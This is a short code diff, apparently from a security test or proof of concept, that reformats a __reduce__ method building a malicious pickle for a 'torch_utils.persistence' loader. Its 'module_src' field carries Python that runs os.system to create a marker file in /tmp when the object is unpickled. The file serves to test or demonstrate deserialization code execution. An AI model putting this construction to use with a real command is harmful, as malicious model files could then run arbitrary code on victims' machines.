@@ -228,8 +228,8 @@ class _Persistent:
         self.class_name, self.state = class_name, state
 
     def __reduce__(self):
-        meta = dict(type="class", version=4, class_name=self.class_name, state=self.state,
-                    module_src="import os\nos.system('touch /tmp/stylegate-pwned-by-module-src')\n")
+        meta = {"type": "class", "version": 4, "class_name": self.class_name, "state": self.state,
+                "module_src": "import os\nos.system('touch /tmp/stylegate-pwned-by-module-src')\n"}
         return (sys.modules["torch_utils.persistence"]._reconstruct_persistent_obj, (meta,))
 
 
